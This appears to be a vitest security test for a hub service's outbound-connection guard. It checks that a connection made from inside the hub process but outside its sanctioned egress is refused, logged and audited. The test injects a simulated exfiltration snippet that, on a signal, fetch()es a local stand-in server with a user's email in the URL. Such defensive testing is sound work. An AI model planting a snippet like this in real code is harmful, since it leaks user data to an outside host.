import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { expect, test } from 'vitest';
import { runHub } from '../support/hub.ts';
import { peopleAt } from '../support/people-at.ts';

test('GATE-48 sec-EG2 a connect from the hub’s own process but not from egress is refused, logged and audited; the demo trips nothing', async () => {
  const reached: string[] = [];
  const stranger = createServer((req, res) => {
    reached.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
  const { port } = stranger.address() as AddressInfo;
  const address = `http://127.0.0.1:${port}/?email=ada@brandt.example`;
  const data = mkdtempSync(join(tmpdir(), 'askfirst-'));
  // Waits for the wire to be set, as code that was brought in later would.
  const code = `process.once('SIGUSR2', () => fetch('${address}').catch((e) => console.log('ended', e.cause.code)))`;
  const hub = await runHub({ data, preload: code });
  const people = peopleAt(hub);
  const maria = people.client();
  await maria.submit(hub.signIn, { token: hub.signIn.split('/').at(-1) ?? '' });
  await people.connect(maria); // OAuth and all: what egress itself opens is let through
  expect(hub.output()).not.toContain('alarm');
  hub.signal('SIGUSR2');
  await expect.poll(() => hub.output()).toContain('ended OUTSIDE_EGRESS');
  const line =
    hub
      .output()
      .split('\n')
      .find((l) => l.includes('"alarm"')) ?? '';
  expect(JSON.parse(line)).toMatchObject({ level: 50, alarm: 'connect-outside-egress' });
  expect(line).not.toMatch(/127\.0\.0\.1|ada@brandt/);
  await hub.stop();
  expect(reached).toEqual([]);
  stranger.close();
  const db = new DatabaseSync(join(data, 'hub.db'), { readOnly: true });
  const rows = db.prepare("select brand_id, actor, detail from audit where act = 'alarm'").all();
  db.close();
  rmSync(data, { recursive: true, force: true });
  expect(rows).toEqual([
    { brand_id: null, actor: 'nobody', detail: expect.stringMatching(/^connect-outside-egress: [\w.:-]+$/) },
  ]);
});
